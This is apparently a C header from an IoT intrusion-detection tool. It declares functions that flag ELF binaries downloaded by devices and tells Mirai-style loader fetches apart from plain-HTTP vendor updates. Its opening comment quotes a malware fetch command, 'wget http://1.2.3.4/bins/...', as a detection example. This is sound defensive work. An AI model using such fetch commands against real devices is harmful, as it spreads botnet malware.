/* SPDX-License-Identifier: GPL-3.0-or-later */
/* Executables downloaded by devices: the first bytes of an HTTP response body or of TFTP
 * block 1 carry the ELF magic (7f 45 4c 46). Mirai's loader and its descendants fetch their
 * binaries (mirai.arm7, mirai.mips, ...) by TFTP or from a host named by its bare IP address
 * (wget http://1.2.3.4/bins/...), often right after logging in: that is IOT_SIG_ELF_DOWNLOAD,
 * a compromise stage. Vendors' agents update themselves over plain HTTP too, from named hosts
 * (D-Link's plugs fetch a MIPS agent from S3 during setup): without a loader before it, that is
 * IOT_SIG_ELF_PLAIN_HTTP, a posture finding (code fetched without TLS can be swapped on the
 * way). Both name the downloading device and the CPU. */
#ifndef IOTSEC_DETECT_DETECT_DOWNLOAD_H
#define IOTSEC_DETECT_DETECT_DOWNLOAD_H

#include "detect/detect.h"

/* An HTTP request on flow f whose Host is host ("" when absent): remembered when it names a bare
 * address, so the response's download can be told apart. */
void iot_detect_download_request(struct iot_detect *d, const struct iot_packet *p,
                                 const struct iot_flow *f, const char *host);

void iot_detect_download(struct iot_detect *d, const struct iot_packet *p,
                         const struct iot_flow *f, const struct iot_device *client,
                         const char *via, const uint8_t *data, size_t len);

#endif
